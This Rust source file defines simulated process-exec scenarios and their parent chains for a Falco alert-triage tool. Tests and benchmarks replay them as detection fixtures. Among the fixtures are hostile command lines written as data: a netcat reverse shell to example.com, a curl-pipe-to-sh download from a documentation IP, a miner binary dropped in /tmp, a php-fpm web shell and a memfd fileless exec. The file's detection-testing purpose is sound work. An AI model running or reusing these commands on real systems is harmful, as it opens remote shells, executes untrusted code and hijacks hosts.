//! Bundled exec scenarios, each with its parent chain: the seed alert, attacks the stock
//! rules and our signals cover, and benign execs that must stay quiet. `falco-triage scap`
//! writes them as a capture Falco can replay; tests and benchmarks reuse them as facts.
//!
//! Not here: expected verdicts (the analysis owns judgement; its tests assert them).

use crate::analysis::{Ancestor, Lineage};
use crate::capture::{Capture, ExecEvent, MachineInfo, ProcEntry};
use crate::facts::{Capabilities, ContainerInfo, ContainerRuntime, ExeFlags, ExecFacts};

/// One process in a scenario's parent chain.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ScenarioProc {
    pub comm: &'static str,
    pub exe_path: &'static str,
    /// argv, argv[0] first.
    pub argv: &'static [&'static str],
    /// Inside the scenario's container (false: on the host, e.g. the runtime shim).
    pub in_container: bool,
    pub uid: u32,
}

/// One exec and where it happens.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Scenario {
    pub name: &'static str,
    pub description: &'static str,
    /// argv, argv[0] first.
    pub argv: &'static [&'static str],
    /// The resolved executable (trusted_exepath).
    pub exe_path: &'static str,
    pub cwd: &'static str,
    pub env: &'static [&'static str],
    pub uid: u32,
    pub gid: u32,
    /// 0: no terminal.
    pub tty: u32,
    pub loginuid: u32,
    /// `PPM_EXE_*` bits.
    pub exe_flags: u32,
    pub cap_effective: u64,
    /// Full 64-hex container id; `None` on the host.
    pub container_id: Option<&'static str>,
    /// Parent first, then grandparent...; init (pid 1) is implied above the last.
    pub parents: &'static [ScenarioProc],
    pub res: i64,
}

/// Docker's default capability set (the 14 of `oci/caps/defaults.go`) as a bitmask:
/// CHOWN, DAC_OVERRIDE, FOWNER, FSETID, KILL, SETGID, SETUID, SETPCAP, NET_BIND_SERVICE,
/// NET_RAW, SYS_CHROOT, MKNOD, AUDIT_WRITE, SETFCAP.
pub const DOCKER_DEFAULT_CAPS: u64 = (1 << 0)
    | (1 << 1)
    | (1 << 3)
    | (1 << 4)
    | (1 << 5)
    | (1 << 6)
    | (1 << 7)
    | (1 << 8)
    | (1 << 10)
    | (1 << 13)
    | (1 << 18)
    | (1 << 27)
    | (1 << 29)
    | (1 << 31);
/// All 41 capabilities (a root shell on the host).
pub const ALL_CAPS: u64 = (1 << 41) - 1;

const SHIM: ScenarioProc = ScenarioProc {
    comm: "containerd-shim",
    exe_path: "/usr/bin/containerd-shim-runc-v2",
    argv: &[
        "/usr/bin/containerd-shim-runc-v2",
        "-namespace",
        "moby",
        "-address",
        "/run/containerd/containerd.sock",
    ],
    in_container: false,
    uid: 0,
};
const PATH_ENV: &str = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

/// The bundled scenarios.
pub static SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "netcat-event-generator",
        description: "the seed alert: event-generator runs `nc -e /bin/sh example.com 22` as root in a container",
        argv: &["nc", "-e", "/bin/sh", "example.com", "22"],
        exe_path: "/usr/bin/nc.openbsd",
        cwd: "/",
        env: &[PATH_ENV, "HOSTNAME=1d45a96b1daa", "HOME=/root"],
        uid: 0,
        gid: 0,
        tty: 0,
        loginuid: u32::MAX,
        exe_flags: ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER,
        cap_effective: DOCKER_DEFAULT_CAPS,
        container_id: Some("1d45a96b1daa6f0c2e2b2d5c1f1e3c4a5b6c7d8e9f00112233445566778899aa"),
        parents: &[
            ScenarioProc {
                comm: "event-generator",
                exe_path: "/bin/event-generator",
                argv: &["/bin/event-generator", "run", "syscall.NetcatRemoteCodeExecutionInContainer"],
                in_container: true,
                uid: 0,
            },
            SHIM,
        ],
        res: 0,
    },
    Scenario {
        name: "php-fpm-webshell",
        description: "a web shell: php-fpm (www-data) runs `sh -c id` in a container",
        argv: &["sh", "-c", "id"],
        exe_path: "/usr/bin/dash",
        cwd: "/var/www/html",
        env: &[PATH_ENV, "HOME=/var/www"],
        uid: 33,
        gid: 33,
        tty: 0,
        loginuid: u32::MAX,
        exe_flags: ExeFlags::LOWER_LAYER,
        cap_effective: 0,
        container_id: Some("5e3f0a9c7b214d6e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9012a3b4c5d6e7"),
        parents: &[
            ScenarioProc {
                comm: "php-fpm",
                exe_path: "/usr/local/sbin/php-fpm",
                argv: &["php-fpm: pool www"],
                in_container: true,
                uid: 33,
            },
            ScenarioProc {
                comm: "php-fpm",
                exe_path: "/usr/local/sbin/php-fpm",
                argv: &["php-fpm: master process (/usr/local/etc/php-fpm.conf)"],
                in_container: true,
                uid: 0,
            },
            SHIM,
        ],
        res: 0,
    },
    Scenario {
        name: "curl-pipe-sh",
        description: "ingress tool transfer: `sh -c 'curl -fsSL http://203.0.113.7/x.sh | sh'` under a node app in a container",
        argv: &["sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"],
        exe_path: "/bin/busybox",
        cwd: "/app",
        env: &[PATH_ENV, "NODE_ENV=production", "HOME=/home/node"],
        uid: 1000,
        gid: 1000,
        tty: 0,
        loginuid: u32::MAX,
        exe_flags: ExeFlags::LOWER_LAYER,
        cap_effective: 0,
        container_id: Some("9a8b7c6d5e4f30211203948576abcdef0123456789abcdef0123456789abcdef"),
        parents: &[
            ScenarioProc {
                comm: "node",
                exe_path: "/usr/local/bin/node",
                argv: &["node", "/app/server.js"],
                in_container: true,
                uid: 1000,
            },
            SHIM,
        ],
        res: 0,
    },
    Scenario {
        name: "drift-tmp",
        description: "drift: a binary dropped in /tmp (upper layer) run by a shell under python in a container",
        argv: &["/tmp/.cache/kworkerd", "-o", "stratum+tcp://198.51.100.9:3333"],
        exe_path: "/tmp/.cache/kworkerd",
        cwd: "/tmp",
        env: &[PATH_ENV, "HOME=/root"],
        uid: 0,
        gid: 0,
        tty: 0,
        loginuid: u32::MAX,
        exe_flags: ExeFlags::WRITABLE | ExeFlags::UPPER_LAYER,
        cap_effective: DOCKER_DEFAULT_CAPS,
        container_id: Some("c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00"),
        parents: &[
            ScenarioProc { comm: "sh", exe_path: "/usr/bin/dash", argv: &["sh", "-c", "/tmp/.cache/kworkerd -o stratum+tcp://198.51.100.9:3333"], in_container: true, uid: 0 },
            ScenarioProc { comm: "python3", exe_path: "/usr/bin/python3.11", argv: &["python3", "app.py"], in_container: true, uid: 0 },
            SHIM,
        ],
        res: 0,
    },
    Scenario {
        name: "memfd-fileless",
        description: "fileless: a program re-executes itself from a memfd in a container",
        argv: &["/proc/self/fd/3"],
        exe_path: "memfd:payload (deleted)",
        cwd: "/",
        env: &[PATH_ENV],
        uid: 0,
        gid: 0,
        tty: 0,
        loginuid: u32::MAX,
        exe_flags: ExeFlags::FROM_MEMFD,
        cap_effective: DOCKER_DEFAULT_CAPS,
        container_id: Some("0b1c2d3e4f5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0"),
        parents: &[
            ScenarioProc { comm: "python3", exe_path: "/usr/bin/python3.11", argv: &["python3", "loader.py"], in_container: true, uid: 0 },
            SHIM,
        ],
        res: 0,
    },
    Scenario {
        name: "nginx-benign",
        description: "benign: the nginx image's entrypoint starts `nginx -g 'daemon off;'`",
        argv: &["nginx", "-g", "daemon off;"],
        exe_path: "/usr/sbin/nginx",
        cwd: "/",
        env: &[PATH_ENV, "NGINX_VERSION=1.27.3"],
        uid: 0,
        gid: 0,
        tty: 0,
        loginuid: u32::MAX,
        exe_flags: ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER,
        cap_effective: DOCKER_DEFAULT_CAPS,
        container_id: Some("7f6e5d4c3b2a19080706050403020100a1b2c3d4e5f60718293a4b5c6d7e8f90"),
        parents: &[
            ScenarioProc { comm: "docker-entrypoi", exe_path: "/usr/bin/dash", argv: &["/bin/sh", "/docker-entrypoint.sh", "nginx", "-g", "daemon off;"], in_container: true, uid: 0 },
            SHIM,
        ],
        res: 0,
    },
    Scenario {
        name: "host-ls-ssh",
        description: "benign: an admin logged in over ssh runs `ls -la` on the host with a terminal",
        argv: &["ls", "-la"],
        exe_path: "/usr/bin/ls",
        cwd: "/home/alice",
        env: &[PATH_ENV, "HOME=/home/alice", "USER=alice", "TERM=xterm-256color"],
        uid: 1000,
        gid: 1000,
        tty: 136 << 8,
        loginuid: 1000,
        exe_flags: 0,
        cap_effective: 0,
        container_id: None,
        parents: &[
            ScenarioProc { comm: "bash", exe_path: "/usr/bin/bash", argv: &["-bash"], in_container: false, uid: 1000 },
            ScenarioProc { comm: "sshd", exe_path: "/usr/sbin/sshd", argv: &["sshd: alice@pts/0"], in_container: false, uid: 1000 },
            ScenarioProc { comm: "sshd", exe_path: "/usr/sbin/sshd", argv: &["sshd: alice [priv]"], in_container: false, uid: 0 },
            ScenarioProc { comm: "sshd", exe_path: "/usr/sbin/sshd", argv: &["/usr/sbin/sshd", "-D"], in_container: false, uid: 0 },
        ],
        res: 0,
    },
];

/// Look a scenario up by name.
pub fn find(name: &str) -> Option<&'static Scenario> {
    SCENARIOS.iter().find(|s| s.name == name)
}

/// Timestamp of the first event: the seed alert's time (2026-11-28T10:14:03.218842311Z).
pub const BASE_TS: u64 = 1_795_860_843_218_842_311;

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

/// cgroup v2 paths as the driver reports them for a Docker container (systemd driver) or a
/// host process: one `controller=path` entry per controller.
fn cgroups(container_id: Option<&str>, in_container: bool) -> Vec<String> {
    let path = match container_id {
        Some(id) if in_container => format!("/system.slice/docker-{id}.scope"),
        _ => "/system.slice/containerd.service".to_string(),
    };
    ["cpuset", "cpu", "io", "memory", "pids"]
        .iter()
        .map(|c| format!("{c}={path}"))
        .collect()
}

impl Scenario {
    /// The exec as facts and lineage, as the plugin would decode them.
    pub fn facts(&self) -> (ExecFacts, Lineage) {
        let facts = ExecFacts {
            argv: strings(self.argv),
            exe_path: Some(self.exe_path.to_string()),
            cwd: Some(self.cwd.to_string()),
            comm: Some(super::comm_of(self.argv.first().copied().unwrap_or(""))),
            env: strings(self.env),
            tty: Some(self.tty),
            uid: Some(self.uid),
            gid: Some(self.gid),
            loginuid: Some(self.loginuid),
            res: Some(self.res),
            exe_flags: Some(ExeFlags(self.exe_flags)),
            caps: Capabilities {
                inheritable: Some(0),
                permitted: Some(self.cap_effective),
                effective: Some(self.cap_effective),
            },
            container: self.container_id.map(|id| ContainerInfo {
                runtime: ContainerRuntime::Docker,
                short_id: id[..12.min(id.len())].to_string(),
            }),
            cgroups_present: true,
            ..Default::default()
        };
        let ancestors = self
            .parents
            .iter()
            .map(|p| Ancestor {
                comm: p.comm.to_string(),
                exe: Some(p.exe_path.to_string()),
                args: strings(p.argv.get(1..).unwrap_or(&[])),
            })
            .collect();
        (
            facts,
            Lineage {
                ancestors,
                known: true,
                earlier: None,
            },
        )
    }

    /// Process-list entries (init, the chain, the forked child before exec) and the exec
    /// event, with thread ids starting at `base_tid`. The child's tid is returned last.
    fn capture_parts(&self, base_tid: i64, ts: u64) -> (Vec<ProcEntry>, ExecEvent) {
        let mut procs = Vec::new();
        let mut ptid = 1i64;
        // Farthest ancestor first, so each entry's parent already exists.
        for (i, p) in self.parents.iter().rev().enumerate() {
            let tid = base_tid + i as i64;
            procs.push(ProcEntry {
                tid,
                pid: tid,
                ptid,
                sid: tid,
                vpgid: tid,
                pgid: tid,
                vtid: tid,
                vpid: tid,
                comm: p.comm.to_string(),
                exe: p.argv.first().copied().unwrap_or(p.exe_path).to_string(),
                exe_path: p.exe_path.to_string(),
                args: strings(p.argv.get(1..).unwrap_or(&[])),
                cwd: if p.in_container {
                    self.cwd.to_string()
                } else {
                    "/".to_string()
                },
                env: if p.in_container {
                    strings(self.env)
                } else {
                    vec![PATH_ENV.to_string()]
                },
                cgroups: cgroups(self.container_id, p.in_container),
                root: "/".into(),
                fdlimit: 1_048_576,
                uid: p.uid,
                gid: p.uid,
                loginuid: if p.in_container {
                    u32::MAX
                } else {
                    self.loginuid
                },
                tty: if p.in_container { 0 } else { self.tty },
                exe_writable: p.uid == 0,
                exe_lower_layer: p.in_container,
                cap_permitted: if p.uid == 0 && !p.in_container {
                    ALL_CAPS
                } else {
                    self.cap_effective
                },
                cap_effective: if p.uid == 0 && !p.in_container {
                    ALL_CAPS
                } else {
                    self.cap_effective
                },
                ..Default::default()
            });
            ptid = tid;
        }
        // The child as fork left it: the parent's image, about to exec.
        let tid = base_tid + self.parents.len() as i64;
        let mut child = procs.last().cloned().unwrap_or_default();
        child.tid = tid;
        child.pid = tid;
        child.ptid = ptid;
        child.vtid = tid;
        child.vpid = tid;
        child.uid = self.uid;
        child.gid = self.gid;
        procs.push(child);

        let in_container = self.container_id.is_some();
        let exec = ExecEvent {
            ts,
            res: self.res,
            argv: strings(self.argv),
            tid,
            pid: tid,
            ptid,
            cwd: self.cwd.to_string(),
            fdlimit: 1_048_576,
            pgft_maj: 0,
            pgft_min: 120,
            vm_size: 2_400,
            vm_rss: 900,
            vm_swap: 0,
            comm: super::comm_of(self.argv.first().copied().unwrap_or("")),
            cgroups: cgroups(self.container_id, in_container),
            env: strings(self.env),
            tty: self.tty,
            vpgid: ptid,
            loginuid: self.loginuid,
            flags: self.exe_flags,
            cap_inheritable: 0,
            cap_permitted: self.cap_effective,
            cap_effective: self.cap_effective,
            exe_ino: 131_072 + base_tid as u64,
            exe_ino_ctime: BASE_TS - 86_400_000_000_000,
            exe_ino_mtime: BASE_TS - 86_400_000_000_000,
            uid: self.uid,
            trusted_exepath: self.exe_path.to_string(),
            pgid: ptid,
            gid: self.gid,
        };
        (procs, exec)
    }
}

fn init_proc() -> ProcEntry {
    ProcEntry {
        tid: 1,
        pid: 1,
        ptid: 0,
        sid: 1,
        vpgid: 1,
        pgid: 1,
        vtid: 1,
        vpid: 1,
        comm: "systemd".into(),
        exe: "/sbin/init".into(),
        exe_path: "/usr/lib/systemd/systemd".into(),
        cwd: "/".into(),
        cgroups: cgroups(None, false)
            .into_iter()
            .map(|c| c.replace("/system.slice/containerd.service", "/init.scope"))
            .collect(),
        root: "/".into(),
        fdlimit: 1_048_576,
        loginuid: u32::MAX,
        exe_writable: true,
        cap_permitted: ALL_CAPS,
        cap_effective: ALL_CAPS,
        ..Default::default()
    }
}

/// One capture holding the given scenarios in order, 1 ms apart, each in its own pid range.
pub fn capture(scenarios: &[&Scenario]) -> Capture {
    let mut procs = vec![init_proc()];
    let mut execs = Vec::new();
    for (i, s) in scenarios.iter().enumerate() {
        let (p, e) = s.capture_parts(1000 * (i as i64 + 1), BASE_TS + i as u64 * 1_000_000);
        procs.extend(p);
        execs.push(e);
    }
    Capture {
        machine: MachineInfo {
            hostname: "worker-1".into(),
            boot_ts_epoch: BASE_TS - 3_600_000_000_000,
            ..Default::default()
        },
        procs,
        execs,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_unique_and_findable() {
        for s in SCENARIOS {
            assert_eq!(find(s.name).map(|f| f.name), Some(s.name));
            assert_eq!(SCENARIOS.iter().filter(|o| o.name == s.name).count(), 1);
            assert!(!s.argv.is_empty() && !s.parents.is_empty());
        }
        assert!(find("nope").is_none());
    }

    #[test]
    fn seed_scenario_matches_the_seed_alert() {
        let (facts, lineage) = find("netcat-event-generator").unwrap().facts();
        let (alert_facts, alert_lineage) =
            super::super::alert::facts_from_alert(super::super::SAMPLE_ALERT).unwrap();
        assert_eq!(facts.argv, alert_facts.argv);
        assert_eq!(facts.exe_path, alert_facts.exe_path);
        assert_eq!(facts.exe_flags, alert_facts.exe_flags);
        // The alert names the container, not its runtime.
        assert_eq!(
            facts.container.map(|c| c.short_id),
            alert_facts.container.map(|c| c.short_id)
        );
        assert_eq!(
            lineage.parent().map(|a| &a.comm),
            alert_lineage.parent().map(|a| &a.comm)
        );
    }

    #[test]
    fn capture_chains_parents_to_the_exec() {
        let s = find("host-ls-ssh").unwrap();
        let cap = capture(&[s]);
        let exec = &cap.execs[0];
        // Walk ptid from the exec up to init through the process list.
        let mut comms = Vec::new();
        let mut tid = exec.ptid;
        while tid != 0 {
            let p = cap
                .procs
                .iter()
                .find(|p| p.tid == tid)
                .expect("parent in proclist");
            comms.push(p.comm.as_str());
            tid = p.ptid;
        }
        assert_eq!(comms, ["bash", "sshd", "sshd", "sshd", "systemd"]);
        assert!(
            cap.procs.iter().any(|p| p.tid == exec.tid),
            "the exec'ing thread exists before exec"
        );
    }
}
